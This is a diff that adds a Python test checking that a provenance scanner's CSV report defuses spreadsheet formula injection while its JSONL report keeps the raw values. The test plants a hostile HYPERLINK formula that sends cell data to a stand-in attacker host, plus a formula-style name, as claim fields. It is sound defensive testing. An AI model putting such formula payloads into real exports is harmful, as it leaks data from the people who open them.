@@ -129,6 +129,39 @@ def test_scan_command_writes_a_csv_report(setup, capsys):
     assert json.loads(rows[0]["claim_terms"])["cawg.ai_training"]["use"] == "allowed"
 
 
+def test_a_csv_report_shows_formulas_from_claims_as_text(setup, capsys):
+    # A stranger's title or name written as a spreadsheet formula must not run when the data
+    # team opens the report; the JSONL report keeps the values exactly.
+    hostile = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
+    works, claims = setup["tmp"] / "mallory-works", setup["tmp"] / "mallory-claims"
+    works.mkdir()
+    claims.mkdir()
+    (works / "copy.txt").write_text("Mallory's recipe for a spreadsheet that runs itself.")
+    (setup["data"] / "copy.txt").write_bytes((works / "copy.txt").read_bytes())
+    with Catalog.open(setup["tmp"] / "mallory") as cat:
+        register(cat, [works])
+        [work_id] = cat.work_ids()
+        cat.update_work(work_id, title=hostile)
+        identity = Identity(cat)
+        identity.create(Profile("@SUM(1+1)"), KeyLocation.keyring())
+        export_bundle(cat, identity, [work_id], claims / "m.colophon", thumbnails=False)
+    rows = {}
+    for suffix in (".csv", ".jsonl"):
+        report = setup["tmp"] / f"matches{suffix}"
+        args = ["--home", str(setup["tmp"] / "co"), "scan", str(setup["data"]), "--claims"]
+        code = main([*args, str(claims), "--report", str(report), "--json"])
+        capsys.readouterr()
+        assert code == exitcodes.OK
+        with report.open(newline="") as fh:
+            read = csv.DictReader(fh) if suffix == ".csv" else map(json.loads, fh)
+            rows[suffix] = list(read)
+    [row] = rows[".csv"]
+    assert (row["claim_title"], row["claim_claimant"]) == ("'" + hostile, "'@SUM(1+1)")
+    assert row["path"] == str(setup["data"] / "copy.txt")  # an ordinary text is left as it is
+    [raw] = rows[".jsonl"]
+    assert (raw["claim_title"], raw["claim_claimant"]) == (hostile, "@SUM(1+1)")
+
+
 def test_scan_without_usable_claims_is_an_error(setup, capsys):
     empty = setup["tmp"] / "no-claims"
     empty.mkdir()
